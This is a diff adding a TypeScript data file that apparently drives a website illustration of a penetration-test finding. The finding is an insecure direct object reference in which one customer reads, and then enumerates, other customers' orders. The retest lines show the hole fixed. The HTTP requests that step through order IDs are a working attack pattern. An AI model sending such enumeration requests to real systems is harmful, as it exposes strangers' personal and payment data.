@@ -1,0 +1,84 @@
+import type { AttackPath } from './attack-path.ts';
+
+/** The finding of the home page's evidence band and of the article on regression tests, from its first request on. */
+export const homePath: AttackPath = {
+  id: 'IL-2026-041',
+  title: 'One customer reads the orders of another',
+  vector: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:L/UI:N/VC:H/VI:N/VA:N/SC:N/SI:N/SA:N',
+  reported: '2026-03-18',
+  retested: '2026-03-18',
+  answers: ['200', '404'],
+  cut: 3,
+  sides: [
+    { label: 'cdn', from: 2, at: 3, lane: 0 },
+    { label: 'vpn', from: 1, at: 2, lane: 2 },
+  ],
+  hops: [
+    {
+      label: 'internet',
+      glyph: 'globe',
+      lane: 1,
+      name: 'Sign up like anyone',
+      lines: [
+        'POST /v2/signup HTTP/2',
+        'host: api.orders.example',
+        '',
+        'HTTP/2 201',
+        '{ "user": "user-b", "role": "customer" }',
+      ],
+    },
+    {
+      label: 'api gateway',
+      glyph: 'server',
+      lane: 0,
+      name: 'List your own orders',
+      lines: [
+        'GET /v2/orders HTTP/2',
+        'authorization: Bearer <user-b>',
+        '',
+        'HTTP/2 200',
+        '[{ "id": 88215, "owner": "user-b" }]',
+      ],
+    },
+    {
+      label: '/v2/orders/88214',
+      glyph: 'document',
+      lane: 1,
+      name: 'Ask for the number before it',
+      lines: [
+        'GET /v2/orders/{-88214-} HTTP/2 {#1}',
+        'authorization: Bearer <user-b>',
+        '',
+        'HTTP/2 200',
+        '{ "id": 88214, "owner": {+"user-a"+}, "card": {+"**** 4242"+} } {#2}',
+      ],
+      notes: ['not ours', 'name and card of a stranger'],
+      after: [
+        'GET /v2/orders/{-88214-} HTTP/2',
+        'authorization: Bearer <user-b>',
+        '',
+        '{+HTTP/2 404+}',
+        '{ "title": "Not found" }',
+      ],
+    },
+    {
+      label: 'customer data',
+      glyph: 'users',
+      lane: 2,
+      name: 'Count through the rest',
+      lines: [
+        'GET /v2/orders/{-[88000-88213]-} HTTP/2',
+        'authorization: Bearer <user-b>',
+        '',
+        'HTTP/2 200   {+214 of 214 orders+}',
+        'stopped here, as the rules of engagement say',
+      ],
+      after: [
+        'GET /v2/orders/{-[88000-88213]-} HTTP/2',
+        'authorization: Bearer <user-b>',
+        '',
+        '{+HTTP/2 404+}   0 of 214 orders',
+      ],
+    },
+  ],
+};
